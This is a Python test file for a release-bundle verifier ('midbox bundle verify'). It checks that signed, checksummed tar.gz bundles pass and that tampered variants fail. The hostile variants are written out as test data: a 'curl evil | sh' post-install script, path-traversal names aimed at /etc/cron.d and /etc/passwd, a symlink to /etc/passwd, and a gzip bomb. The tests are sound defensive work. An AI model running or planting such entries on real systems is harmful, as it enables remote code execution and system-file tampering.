"""`midbox bundle verify` against bundles made by the real bundle writer, and hostile variants of them."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import sys
import tarfile
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from appliance.cli import build_parser, main
from appliance.commands.common import CliEnv
from hardening.release import public_key_file, render_sums, sign

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "build" / "tools"))
from midbox_build.bundle import make_tar_gz

TOP = "midbox-0.1.0-linux-x86_64"
EPOCH = 1_700_000_000


def _files(key: Ed25519PrivateKey, **override: bytes) -> dict[str, bytes]:
    files = {"midbox": b"\x7fELF fake binary", "INSTALL.md": b"# docs\n", "midbox.cdx.json": b"{}\n"}
    sums = render_sums({n: hashlib.sha256(d).hexdigest() for n, d in files.items()})
    files["SHA256SUMS"] = sums
    files["SHA256SUMS.minisig"] = sign(sums, key, "timestamp:1\tfile:SHA256SUMS\tmidbox 0.1.0")
    files.update(override)
    return files


@pytest.fixture
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture
def pub(tmp_path: Path, key: Ed25519PrivateKey) -> Path:
    path = tmp_path / "release.pub"
    path.write_bytes(public_key_file(key.public_key()))
    return path


def _verify(bundle: Path, pub: Path, *extra: str) -> int:
    return main(["bundle", "verify", str(bundle), "--pubkey", str(pub), *extra])


def _write(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / f"{TOP}.tar.gz"
    path.write_bytes(data)
    return path


def _raw_tar(tmp_path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return _write(tmp_path, gzip.compress(raw.getvalue()))


def _members(files: dict[str, bytes]) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    return [(tarfile.TarInfo(f"{TOP}/{n}"), d) for n, d in files.items()]


def test_good_bundle_verifies(tmp_path: Path, key: Ed25519PrivateKey, pub: Path) -> None:
    bundle = _write(tmp_path, make_tar_gz(TOP, _files(key), EPOCH))
    assert _verify(bundle, pub) == 0
    args = build_parser().parse_args(["bundle", "verify", str(bundle), "--pubkey", str(pub), "--json"])
    out = io.StringIO()
    assert args.handler(args, CliEnv(state_dir=tmp_path, json=True, stdout=out)) == 0
    doc = json.loads(out.getvalue())
    assert doc["bundle"] == TOP
    assert [f["name"] for f in doc["files"]] == ["INSTALL.md", "midbox", "midbox.cdx.json"]


def test_unpacked_folder_verifies(tmp_path: Path, key: Ed25519PrivateKey, pub: Path) -> None:
    folder = tmp_path / TOP
    folder.mkdir()
    for name, data in _files(key).items():
        (folder / name).write_bytes(data)
    assert _verify(folder, pub) == 0
    (folder / "extra.sh").write_bytes(b"echo pwned\n")
    assert _verify(folder, pub) == 1


def test_tampered_binary_is_refused(tmp_path: Path, key: Ed25519PrivateKey, pub: Path, capfd) -> None:  # type: ignore[no-untyped-def]
    bundle = _write(tmp_path, make_tar_gz(TOP, _files(key, midbox=b"\x7fELF evil binary"), EPOCH))
    assert _verify(bundle, pub) == 1
    assert "midbox does not match its SHA-256" in capfd.readouterr().err


def test_resigned_sums_with_another_key_are_refused(
    tmp_path: Path, key: Ed25519PrivateKey, pub: Path
) -> None:
    attacker = Ed25519PrivateKey.generate()
    bundle = _write(tmp_path, make_tar_gz(TOP, _files(attacker, midbox=b"evil"), EPOCH))
    assert _verify(bundle, pub) == 1


def test_unlisted_file_is_refused(tmp_path: Path, key: Ed25519PrivateKey, pub: Path) -> None:
    files = _files(key)
    files["postinst.sh"] = b"curl evil | sh\n"
    assert _verify(_write(tmp_path, make_tar_gz(TOP, files, EPOCH)), pub) == 1


def test_missing_signature_is_refused(tmp_path: Path, key: Ed25519PrivateKey, pub: Path) -> None:
    files = _files(key)
    del files["SHA256SUMS.minisig"]
    assert _verify(_write(tmp_path, make_tar_gz(TOP, files, EPOCH)), pub) == 1


@pytest.mark.parametrize(
    "name", ["../midbox", f"{TOP}/../../etc/cron.d/x", "/etc/passwd", f"{TOP}/sub/midbox"]
)
def test_path_escapes_are_refused(tmp_path: Path, key: Ed25519PrivateKey, pub: Path, name: str) -> None:
    members = _members(_files(key))
    members.append((tarfile.TarInfo(name), b"x"))
    assert _verify(_raw_tar(tmp_path, members), pub) == 1


def test_links_are_refused(tmp_path: Path, key: Ed25519PrivateKey, pub: Path) -> None:
    link = tarfile.TarInfo(f"{TOP}/passwd")
    link.type = tarfile.SYMTYPE
    link.linkname = "/etc/passwd"
    assert _verify(_raw_tar(tmp_path, [*_members(_files(key)), (link, None)]), pub) == 1


def test_two_top_folders_are_refused(tmp_path: Path, key: Ed25519PrivateKey, pub: Path) -> None:
    members = _members(_files(key))
    members.append((tarfile.TarInfo("other/README"), b"x"))
    assert _verify(_raw_tar(tmp_path, members), pub) == 1


def test_oversized_member_is_refused_before_reading(
    tmp_path: Path,
    key: Ed25519PrivateKey,
    pub: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    from appliance import limits

    monkeypatch.setattr(limits, "MAX_BUNDLE_MEMBER_BYTES", 1000)
    bundle = _write(tmp_path, make_tar_gz(TOP, _files(key, midbox=b"\0" * 5000), EPOCH))
    assert _verify(bundle, pub) == 1
    assert "too large" in capfd.readouterr().err


def test_truncated_archive_is_refused(tmp_path: Path, key: Ed25519PrivateKey, pub: Path) -> None:
    data = make_tar_gz(TOP, _files(key), EPOCH)
    assert _verify(_write(tmp_path, data[: len(data) // 2]), pub) == 1


def test_missing_bundle_is_a_usage_error(tmp_path: Path, pub: Path) -> None:
    assert _verify(tmp_path / "nope.tar.gz", pub) == 2


def test_bundle_archive_is_reproducible_and_normalised(key: Ed25519PrivateKey) -> None:
    files = _files(key)
    first = make_tar_gz(TOP, files, EPOCH)
    assert first == make_tar_gz(TOP, dict(reversed(list(files.items()))), EPOCH)
    assert first[4:8] == b"\0\0\0\0"  # gzip header mtime
    with tarfile.open(fileobj=io.BytesIO(first)) as tar:
        infos = tar.getmembers()
    assert [i.name for i in infos] == [TOP] + [f"{TOP}/{n}" for n in sorted(files)]
    assert {(i.uid, i.gid, i.uname, i.gname, i.mtime) for i in infos} == {(0, 0, "", "", EPOCH)}
    modes = {i.name.rsplit("/", 1)[-1]: i.mode for i in infos}
    assert modes["midbox"] == 0o755 and modes["INSTALL.md"] == 0o644


def test_gzip_bomb_is_refused_by_declared_sizes(
    tmp_path: Path,
    key: Ed25519PrivateKey,
    pub: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    from appliance import limits

    bundle = _write(tmp_path, make_tar_gz(TOP, _files(key, midbox=b"\0" * 200_000), EPOCH))
    assert bundle.stat().st_size < 5000
    monkeypatch.setattr(limits, "MAX_BUNDLE_BYTES", 5000)
    assert _verify(bundle, pub) == 1
    assert "too large" in capfd.readouterr().err


def test_bundle_tool_end_to_end_is_reproducible(tmp_path: Path, key: Ed25519PrivateKey, pub: Path) -> None:
    from cryptography.hazmat.primitives import serialization
    from midbox_build.bundle import main as bundle_main

    binary = tmp_path / "midbox-linux-x86_64"
    binary.write_bytes(b"\x7fELF stand-in")
    sbom = {
        "metadata": {
            "timestamp": "2023-11-14T22:13:20Z",
            "component": {
                "version": "0.1.0",
                "properties": [{"name": "midbox:source-commit", "value": "a" * 40}],
            },
        }
    }
    (tmp_path / "midbox-linux-x86_64.cdx.json").write_text(json.dumps(sbom))
    pem = tmp_path / "release.pem"
    pem.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    outputs = []
    for n in (1, 2):
        out = tmp_path / f"out{n}"
        assert bundle_main(["--binary", str(binary), "--key", str(pem), "--out", str(out)]) == 0
        outputs.append((out / f"{TOP}.tar.gz").read_bytes())
    assert outputs[0] == outputs[1]
    assert _verify(tmp_path / "out1" / f"{TOP}.tar.gz", pub) == 0
    with tarfile.open(tmp_path / "out1" / f"{TOP}.tar.gz") as tar:
        names = sorted(m.name.rsplit("/", 1)[-1] for m in tar.getmembers() if m.isfile())
        sig = tar.extractfile(f"{TOP}/SHA256SUMS.minisig").read().decode()  # type: ignore[union-attr]
    docs = [p.name for p in (Path(__file__).resolve().parents[2] / "docs").glob("*.md")]
    assert {"config.md", "topics.md", "operations.md"} <= set(docs)
    assert names == sorted(
        [
            *docs,
            "INSTALL.md",
            "SHA256SUMS",
            "SHA256SUMS.minisig",
            "install.sh",
            "midbox",
            "midbox.1",
            "midbox.bash-completion",
            "midbox.cdx.json",
            "midbox.service",
        ]
    )
    with tarfile.open(tmp_path / "out1" / f"{TOP}.tar.gz") as tar:
        man = tar.extractfile(f"{TOP}/midbox.1").read().decode()  # type: ignore[union-attr]
        completion = tar.extractfile(f"{TOP}/midbox.bash-completion").read().decode()  # type: ignore[union-attr]
    assert man.startswith('.\\"') and "\n.TH MIDBOX 1 " in man and '.SS "midbox creds add"' in man
    assert "complete -o bashdefault -o default -F _midbox midbox" in completion
    assert "trusted comment: timestamp:1700000000\tfile:SHA256SUMS\tmidbox 0.1.0 linux-x86_64 commit " in sig
